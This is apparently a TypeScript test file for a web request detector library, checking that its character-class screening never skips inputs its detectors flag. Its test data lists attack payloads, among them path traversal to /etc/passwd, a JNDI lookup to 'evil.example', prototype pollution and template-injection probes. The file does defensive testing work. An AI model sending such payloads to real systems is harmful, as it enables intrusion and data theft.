// biome-ignore-all lint/suspicious/noTemplateCurlyInString: "${x}" is a literal lookup payload, not a template.
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { describe, it } from "node:test";
import fc from "fast-check";
import { canonicalize } from "../src/canonicalize.js";
import {
  BRACE,
  CONTROL,
  charClassesOf,
  DOLLAR,
  DOT,
  DOT_DOT,
  NON_ASCII,
  OTHER,
  PLAIN_CLASSES,
  SLASH,
  SPACE,
} from "../src/detectors/char-classes.js";
import { DETECTORS } from "../src/detectors/index.js";
import type { Candidate, InputKind } from "../src/detectors/types.js";

const CORPUS = new URL("../../../../../shared/corpora/shield/dev.jsonl", import.meta.url).pathname;
const KINDS: readonly InputKind[] = ["query", "body", "query-key", "header", "path"];

/** A detector with `needs` that finds something in a value without any of those classes: the scan would have skipped a real finding. */
function unsoundScreens(raw: string): string[] {
  const canonical = canonicalize(raw);
  const classes = charClassesOf(canonical);
  const problems: string[] = [];
  for (const detector of DETECTORS) {
    if (detector.needs === undefined || classes === 0 || (classes & detector.needs) !== 0) continue;
    for (const kind of KINDS) {
      const candidate: Candidate = { location: `${kind}.file`, kind, raw, canonical, name: "file" };
      if (detector.detect(candidate)) problems.push(`${detector.class} (${kind}): ${JSON.stringify(raw)}`);
    }
  }
  return problems;
}

describe("character classes", () => {
  it("sets one bit per class found, and none for letters and digits", () => {
    assert.equal(charClassesOf("Item42abcXYZ"), 0);
    assert.equal(charClassesOf("a b"), SPACE);
    assert.equal(charClassesOf("../x"), DOT | DOT_DOT | SLASH);
    assert.equal(charClassesOf("a.b.c"), DOT);
    assert.equal(charClassesOf("${x}"), DOLLAR | BRACE);
    assert.equal(charClassesOf("é"), NON_ASCII);
    assert.equal(charClassesOf("a\tb\u0000"), CONTROL);
    assert.equal(charClassesOf("~^"), OTHER);
  });

  it("calls prose plain and shell or markup syntax not", () => {
    assert.equal(charClassesOf("Ann O-Brien, ann@example.com + 2_x") & ~PLAIN_CLASSES, 0);
    for (const syntax of ["a;b", "a|b", "<b>", "a'b", "a..b", "a\tb", "a=b", "a/b"])
      assert.notEqual(charClassesOf(syntax) & ~PLAIN_CLASSES, 0, syntax);
  });

  it("never screens out a value a detector flags (known payloads)", () => {
    const payloads = [
      "constructor.prototype.polluted",
      "constructor[prototype][x]",
      "a[__proto__][b]",
      "../../etc/passwd",
      "boot.ini",
      "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
      "file:///etc/passwd",
      "${jndi:ldap://evil.example/a}",
      "{{7*7}}",
      "<%= 7*7 %>",
      "#{7*7}",
      "__class__.__mro__",
    ];
    for (const raw of payloads) {
      const canonical = canonicalize(raw);
      const flagged = DETECTORS.some((d) => d.detect({ location: "query.file", kind: "query", raw, canonical, name: "file" }));
      assert.ok(flagged, `${raw} should be flagged by some detector`);
      assert.deepEqual(unsoundScreens(raw), []);
    }
  });

  it("never screens out a value a detector flags (random values)", () => {
    const alphabet = fc.constantFrom(..."abcdeijlnoprstuvwxyz0123456789 ./\\:$%{}[]()<>@#_=+-'\";|&`!*?,~\n".split(""));
    const words = fc.constantFrom(
      "etc",
      "passwd",
      "jndi",
      "ldap",
      "__proto__",
      "constructor",
      "prototype",
      "{{",
      "${",
      "boot.ini",
      "../",
      "file:",
    );
    const value = fc.array(fc.oneof(alphabet, words), { maxLength: 24 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(value, (raw) => unsoundScreens(raw).length === 0),
      { numRuns: 3000 },
    );
  });

  it("never screens out a value a detector flags (dev corpus payloads)", (t) => {
    if (!existsSync(CORPUS)) {
      t.skip(`dev corpus not found at ${CORPUS}`);
      return;
    }
    const problems: string[] = [];
    for (const line of readFileSync(CORPUS, "utf8").split("\n")) {
      if (line.length === 0) continue;
      const payload = (JSON.parse(line) as { payload?: unknown }).payload;
      if (typeof payload === "string") problems.push(...unsoundScreens(payload));
    }
    assert.deepEqual(problems.slice(0, 10), []);
  });
});
